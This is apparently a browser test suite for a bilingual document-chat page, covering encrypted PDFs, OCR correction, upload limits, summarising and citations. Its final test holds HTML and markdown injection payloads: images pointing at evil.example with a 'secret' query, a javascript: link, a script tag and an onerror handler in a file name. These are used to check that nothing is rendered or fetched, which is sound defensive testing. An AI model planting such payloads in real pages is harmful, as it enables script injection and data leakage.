// Documents in the built page that are not as one would wish: encrypted, blurred, slow to read, too long, hostile. In both languages.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import path from "node:path";
import test, { after, before } from "node:test";
import type { Browser, Page } from "playwright-core";
import { strings } from "../../web/strings.ts";
import { officeStrings } from "../../web/strings-office.ts";
import { encryptedPdf } from "../documents/encrypted-pdf.ts";
import { makePdf } from "../documents/fixtures.ts";
import { faultsOf, openBrowser, skipWithoutChromium as skip, visit } from "./browser.ts";
import { openPageServer } from "./page-server.ts";
import { openRealService } from "./real-service.ts";

let browser: Browser;
let blurred: Buffer;
let scan: Buffer;
before(async () => {
  if (skip) return;
  browser = await openBrowser();
  // Three lines of 22 px in Noto Sans on white, blurred with a sigma of 3.2: words can be guessed, letters not.
  blurred = await readFile(path.join(import.meta.dirname, "images/blurred-letter.png"));
  scan = await readFile(path.join(import.meta.dirname, "../documents/images/scan-on-its-side.jpg"));
});
after(() => browser?.close());

const choose = (page: Page, name: string, bytes: Uint8Array): Promise<void> =>
  page
    .locator('input[type="file"]')
    .setInputFiles({ name, mimeType: "application/octet-stream", buffer: Buffer.from(bytes) });

/** A text of one page, too long for a context of 1,500 tokens. */
const longText = Buffer.from(
  Array.from({ length: 60 }, (_, n) => `第${n + 1}条 双方应当按照约定履行义务，并互相通知变更事项。`).join("\n\n"),
);

for (const [locale, language] of [
  ["zh-CN", "zh"],
  ["en-US", "en"],
] as const) {
  const t = strings[language];
  const o = officeStrings[language];
  const mark = (page: number): string => (language === "zh" ? `[第 ${page} 页]` : `[p. ${page}]`);
  const ask = async (page: Page, words: string): Promise<void> => {
    await page.locator(".composer textarea").fill(words);
    await page.locator(".send").click();
  };

  test(`${locale}: an encrypted PDF asks for its password, again when it is wrong, and is read with the right one`, {
    skip,
  }, async () => {
    const prompts: string[] = [];
    await using server = await openPageServer(
      { answer: (_r, prompt) => `${prompts.push(prompt)}` },
      { hasOffice: true },
    );
    await using visited = await visit(browser, server.url, { locale });
    const { page } = visited;
    await choose(page, "secret.pdf", encryptedPdf);
    const form = page.locator(".chip.upload .unlock");
    const password = form.getByLabel(o.passwordFor("secret.pdf"));
    await password.fill("falsch");
    await form.getByRole("button", { name: o.openFile }).click();
    await page.locator('.chip.upload input[aria-invalid="true"]').waitFor();
    await page.locator(".chip.upload").getByText(o.passwordWrong("secret.pdf")).waitFor();
    assert.deepEqual(await faultsOf(page), []);
    assert.equal(await page.locator(".send").isEnabled(), false, "nothing is sent while a file waits for its password");
    await password.fill("geheim");
    await password.press("Enter");
    const chip = page.locator(".composer .chip:not(.upload)");
    await chip.locator(".chip-name").click();
    await page.locator(".document-pane .segment").getByText("Secret text").waitFor();
    await page.locator(".document-pane .page-sheet img").waitFor(); // the picture needs the password too
    await page.locator(".document-pane .office-head").getByRole("button", { name: t.close }).click();
    await ask(page, "?");
    await page.locator('.message.assistant[data-state="complete"]').waitFor();
    assert.match(prompts.at(-1) ?? "", /Secret text/);
  });

  test(`${locale}: a page read with little confidence is marked, and can be corrected beside its picture before asking`, {
    skip,
  }, async () => {
    const prompts: string[] = [];
    await using server = await openPageServer(
      { answer: (_r, prompt) => `${prompts.push(prompt)}` },
      { hasOffice: true },
    );
    await using visited = await visit(browser, server.url, { locale, viewport: { width: 1440, height: 900 } });
    const { page } = visited;
    await choose(page, "letter.png", blurred);
    const chip = page.locator(".composer .chip:not(.upload)");
    await chip.getByText(o.lowPages(1)).waitFor();
    await chip.locator(".chip-name").click();
    const pane = page.locator(".document-pane");
    await pane.locator(".low-pages").getByText(o.lowPages(1)).waitFor();
    await pane.locator(".office-note.low").waitFor();
    const picture = await pane.locator(".page-sheet img").boundingBox();
    const text = await pane.locator(".page-text").boundingBox();
    assert.ok(picture && text && picture.x + picture.width <= text.x + 1, "the picture is not beside the text");
    assert.deepEqual(await faultsOf(page), []);
    const segment = pane.locator(".segment.low").first();
    await segment.hover();
    await pane.locator(".page-mark").waitFor();
    await segment.getByRole("button", { name: o.correct }).click();
    assert.deepEqual(await faultsOf(page), []);
    await pane.getByLabel(o.correctLabel).fill("Payment is due within thirty days of delivery.");
    await pane.getByRole("button", { name: o.save }).click();
    await pane.getByText(o.correctedMark).waitFor();
    await pane.locator(".office-head").getByRole("button", { name: t.close }).click();
    await ask(page, "When?");
    await page.locator('.message.assistant[data-state="complete"]').waitFor();
    assert.match(prompts.at(-1) ?? "", /Payment is due within thirty days of delivery\./);
  });

  test(`${locale}: reading tells its page, and ends when it is cancelled`, { skip }, async () => {
    await using server = await openPageServer({}, { hasOffice: true });
    await using visited = await visit(browser, server.url, { locale });
    const { page } = visited;
    const jpeg = { bytes: scan, width: 600, height: 1200 };
    await choose(page, "scans.pdf", makePdf(Array.from({ length: 12 }, () => ({ jpeg }))));
    const upload = page.locator(".chip.upload");
    const words = [...Array(12).keys()].map((n) => o.recognisingPage(n + 1, 12));
    await upload.getByText(new RegExp(words.map((each) => each.replaceAll(/[()/.]/g, "\\$&")).join("|"))).waitFor();
    assert.equal(await upload.locator("progress").getAttribute("max"), "12");
    await upload.getByRole("button", { name: o.cancelUpload("scans.pdf") }).click();
    await upload.waitFor({ state: "detached" });
    await choose(page, "short.txt", Buffer.from("Payment: thirty days."));
    await page.locator(".composer .chip:not(.upload)").getByText("short.txt").waitFor();
    assert.equal(await page.locator(".composer .chip").count(), 1, "the cancelled file came after all");
  });

  test(`${locale}: a summary of what is too long tells how far it is, can be stopped, and says what it was made of`, {
    skip,
  }, async () => {
    const prompts: string[] = [];
    let isStopped = false;
    await using server = await openPageServer(
      {
        contextTokens: 1500,
        parallel: 1,
        tokensPerSecond: 150,
        *answer(_request, prompt) {
          prompts.push(prompt);
          while (!isStopped) yield ""; // the first summary is there to be seen and stopped
          yield /摘要|整理出|summar|what this part says/i.test(prompt)
            ? `要点：三十天 ${mark(1)}。`
            : `三十天 ${mark(1)}`;
        },
      },
      { hasOffice: true },
    );
    await using visited = await visit(browser, server.url, { locale });
    const { page } = visited;
    const question = language === "zh" ? "有哪些义务？" : "Which duties?";
    const begin = async (): Promise<void> => {
      await choose(page, "long.txt", longText);
      await page.locator(".composer .chip:not(.upload)").waitFor();
      await page.locator(".composer textarea").fill(question);
      await page.getByRole("button", { name: o.fitChoices.summarise }).click();
      await page.getByText(o.fitChosen.summarise).waitFor();
      await page.locator(".send").click();
    };
    await begin();
    await page.locator(".message .progress progress").waitFor();
    await page.getByText(o.fitting.sections(1, 4).replace(/1.*/, ""), { exact: false }).first().waitFor();
    await page.locator(".send.stop").click();
    await page.locator('.message.assistant[data-state="stopped"]').getByText(t.answerStopped).waitFor();
    isStopped = true;
    await page.getByRole("button", { name: t.newChat, exact: true }).first().click();
    await page.locator(".welcome").waitFor();
    await begin();
    const answer = page.locator('.message.assistant[data-state="complete"]');
    await answer.locator(".file-notes").getByText("long.txt").waitFor();
    assert.match(prompts.at(-1) ?? "", /要点：三十天/);
    await answer.locator("a.citation").first().waitFor();
    assert.equal(await answer.locator("a.citation.doubt").count(), 0);
    assert.deepEqual(await faultsOf(page), []);
    // The choice holds for what is asked next.
    await page.getByText(o.fitChosen.summarise).waitFor();
    assert.equal(await page.locator(".over-budget").count(), 0);
    await ask(page, language === "zh" ? "还有呢？" : "What else?");
    await page.locator('.message.assistant[data-state="complete"]').nth(1).waitFor();
    await page.getByRole("button", { name: o.fitUndo }).click();
    await page.locator(".over-budget").getByRole("button", { name: o.fitChoices.relevant }).click();
    await page.getByText(o.fitChosen.relevant).waitFor();
  });
}

test("a document that is too long goes whole once the context is raised from the page", {
  skip,
}, async () => {
  await using server = await openRealService("--context", "1024", "--parallel", "1");
  await using visited = await visit(browser, server.url, { locale: "zh-CN" });
  const { page } = visited;
  const [t, o] = [strings.zh, officeStrings.zh];
  const clauses = Array.from({ length: 55 }, (_, n) => `第${n + 1}条 双方应当按照约定履行义务，并互相通知变更事项。`);
  clauses[40] = "东方食品的合同编号是HT-20871。";
  await choose(page, "contract.txt", Buffer.from(clauses.join("\n\n")));
  await page.locator(".composer .chip:not(.upload)").waitFor();
  await page.locator(".composer textarea").fill("东方食品的合同编号是什么？");
  const over = page.locator(".over-budget");
  await over.getByRole("button", { name: o.fitChoices.relevant }).waitFor();
  await over.getByRole("button", { name: o.fitChoices.summarise }).waitFor();
  await over.getByRole("button", { name: t.raiseContextPlain("2K").slice(0, -2) }).click();
  await over.waitFor({ state: "detached" });
  await page.locator(".send").click();
  const answer = page.locator('.message.assistant[data-state="complete"]');
  await answer.waitFor();
  assert.equal(await answer.locator(".file-notes").count(), 0, "something was left out");
  assert.ok(server.engine.status().totals.promptTokens > 1024);
  assert.ok(server.engine.status().contextTokens > 1024);
  assert.equal(await page.getByText(t.answerStopped).count(), 0);
});

test("a file over the limit is refused in the page's words, before it is sent", { skip }, async () => {
  await using server = await openPageServer({}, { hasOffice: true });
  await using visited = await visit(browser, server.url, { locale: "zh-CN" });
  const { page } = visited;
  await page.route("**/status", async (route) => {
    const response = await route.fetch();
    const body = (await response.json()) as { limits: { upload_bytes: number } };
    await route.fulfill({ response, json: { ...body, limits: { ...body.limits, upload_bytes: 1000 } } });
  });
  await choose(page, "large.pdf", Buffer.alloc(1001));
  await page.locator(".toast.error").getByText(strings.zh.fileTooLarge("large.pdf", "1 kB")).waitFor();
  assert.equal(await page.locator(".composer .chip").count(), 0);
});

test("files are dropped and pictures are pasted; a citation that names one of several opens that one", {
  skip,
}, async () => {
  await using server = await openPageServer(
    { answer: () => "The price is 9,000 [p. 1, annex.txt]; payment as agreed [p. 1, contract.txt], later [p. 8]." },
    { hasOffice: true },
  );
  await using visited = await visit(browser, server.url);
  const { page } = visited;
  const drop = async (name: string, text: string): Promise<void> => {
    const data = await page.evaluateHandle(
      ([file, content]) => {
        const scope = globalThis as unknown as {
          DataTransfer: new () => { items: { add(file: unknown): void } };
          File: new (parts: string[], name: string) => unknown;
        };
        const transfer = new scope.DataTransfer();
        transfer.items.add(new scope.File([content ?? ""], file ?? ""));
        return transfer;
      },
      [name, text],
    );
    await page.dispatchEvent("body", "dragover", { dataTransfer: data });
    await page.locator(".drop-hint").waitFor();
    await page.dispatchEvent("body", "drop", { dataTransfer: data });
    await page.locator(".composer .chip:not(.upload)").getByText(name, { exact: true }).waitFor();
  };
  await drop("contract.txt", "Payment within thirty days.");
  await drop("annex.txt", "The price is 9,000.");
  await page.evaluate((base64) => {
    const scope = globalThis as unknown as {
      DataTransfer: new () => { items: { add(file: unknown): void } };
      File: new (parts: unknown[], name: string, options: object) => unknown;
      ClipboardEvent: new (type: string, options: object) => unknown;
      atob(text: string): string;
      document: { querySelector(selector: string): { dispatchEvent(event: unknown): void } };
    };
    const bytes = Uint8Array.from(scope.atob(base64), (sign) => sign.charCodeAt(0));
    const clipboardData = new scope.DataTransfer();
    clipboardData.items.add(new scope.File([bytes], "image.png", { type: "image/png" }));
    const event = new scope.ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true });
    scope.document.querySelector(".composer textarea").dispatchEvent(event);
  }, blurred.toString("base64"));
  await page.locator(".composer .chip:not(.upload)").getByText("image.png", { exact: true }).waitFor();
  await page.locator(".composer textarea").fill("What does it cost?");
  await page.locator(".send").click();
  const answer = page.locator('.message.assistant[data-state="complete"]');
  await answer.locator("a.citation").first().click();
  await page.locator(".document-pane").getByRole("heading", { name: "annex.txt" }).waitFor();
  await page.locator(".segment.cited").getByText("9,000").waitFor();
  await answer.locator("a.citation").nth(1).click();
  await page.locator(".document-pane").getByRole("heading", { name: "contract.txt" }).waitFor();
  await answer.locator("a.citation.doubt").click();
  await page.locator(".document-pane").getByText(officeStrings.en.noSuchPage(8, 1)).waitFor();
});

test("of a long page the beginning is shown, more on request, and the passage that is cited", { skip }, async () => {
  const answer = (): string => "Clause 900 speaks of the penalty for lateness [p. 1].";
  await using server = await openPageServer({ answer }, { hasOffice: true });
  await using visited = await visit(browser, server.url);
  const { page } = visited;
  const clauses = Array.from({ length: 1500 }, (_, n) => `Clause ${n}: both parties keep their word.`);
  clauses[900] = "Clause 900: the penalty for lateness is one per cent.";
  await choose(page, "long.txt", Buffer.from(clauses.join("\n\n")));
  await page.locator(".composer .chip:not(.upload) .chip-name").click();
  const pane = page.locator(".document-pane");
  await pane.getByText("Clause 399:").waitFor();
  assert.equal(await pane.locator(".segment").count(), 400);
  await pane.getByRole("button", { name: officeStrings.en.moreSegments(1100) }).click();
  await pane.getByText("Clause 799:").waitFor();
  await pane.locator(".office-head").getByRole("button", { name: strings.en.close }).click();
  await page.locator(".composer textarea").fill("What of lateness?");
  await page.locator(".send").click();
  await page.locator('.message.assistant[data-state="complete"] a.citation').click();
  await pane.locator(".segment.cited").getByText("one per cent").waitFor();
});

test("what a hostile document holds is shown as it is, and nothing of it is fetched", { skip }, async () => {
  const text =
    '# T <img src="https://evil.example/a.png"> ![x](https://evil.example/b.png?q=secret)\n\n[go](javascript:window.harmed=1) <script>window.harmed=2</script>';
  await using server = await openPageServer({ answer: () => text }, { hasOffice: true });
  await using visited = await visit(browser, server.url);
  const { page } = visited;
  await choose(page, "note<img src=x onerror=window.harmed=3>.txt", Buffer.from(text));
  await page.locator(".composer .chip:not(.upload) .chip-name").click();
  const pane = page.locator(".document-pane");
  await pane.getByText("evil.example/b.png").first().waitFor();
  assert.equal(await pane.locator("a, img, script").count(), 0);
  await pane.locator(".office-head").getByRole("button", { name: strings.en.close }).click();
  await page.locator(".composer textarea").fill("What does it say?");
  await page.locator(".send").click();
  const answer = page.locator('.message.assistant[data-state="complete"]');
  await answer.waitFor();
  assert.equal(await answer.locator("img, script").count(), 0);
  assert.equal(await page.evaluate("window.harmed"), undefined);
  assert.deepEqual(visited.strangers, []);
});
